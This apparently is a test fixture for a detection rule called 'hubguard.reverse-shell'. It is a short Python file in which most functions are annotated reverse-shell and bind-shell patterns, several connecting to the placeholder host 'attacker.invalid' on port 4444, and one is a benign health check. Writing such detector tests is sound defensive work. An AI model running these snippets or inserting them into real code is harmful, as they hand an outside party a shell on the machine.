import os
import socket
import subprocess


def classic():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(("attacker.invalid", 4444))
    # ruleid: hubguard.reverse-shell
    os.dup2(sock.fileno(), 0)
    # ruleid: hubguard.reverse-shell
    os.dup2(sock.fileno(), 1)


def piped():
    sock = socket.socket()
    sock.connect(("attacker.invalid", 4444))
    while True:
        command = sock.recv(1024).decode()
        # ruleid: hubguard.reverse-shell
        sock.send(subprocess.check_output(command.split()))


def fed(sock):
    # ruleid: hubguard.reverse-shell
    subprocess.Popen(["/bin/sh"], stdin=sock.fileno(), stdout=sock.fileno())


def handed_over(host):
    sock = socket.create_connection((host, 4444))
    # ruleid: hubguard.reverse-shell
    subprocess.Popen(["/bin/sh", "-i"], stdin=sock, stdout=sock, stderr=sock)


def handed_over_in_block(host):
    with socket.create_connection((host, 4444)) as conn:
        # ruleid: hubguard.reverse-shell
        subprocess.call(["/bin/bash"], stdin=conn, stdout=conn)


def bind_shell(port):
    server = socket.socket()
    server.bind(("0.0.0.0", port))
    server.listen(1)
    client, _ = server.accept()
    # ruleid: hubguard.reverse-shell
    subprocess.Popen("/bin/sh", stdin=client, stdout=client)


def health_check(host, port):
    # ok: hubguard.reverse-shell
    with socket.create_connection((host, port), timeout=1) as conn:
        conn.sendall(b"ping")
        return conn.recv(4)
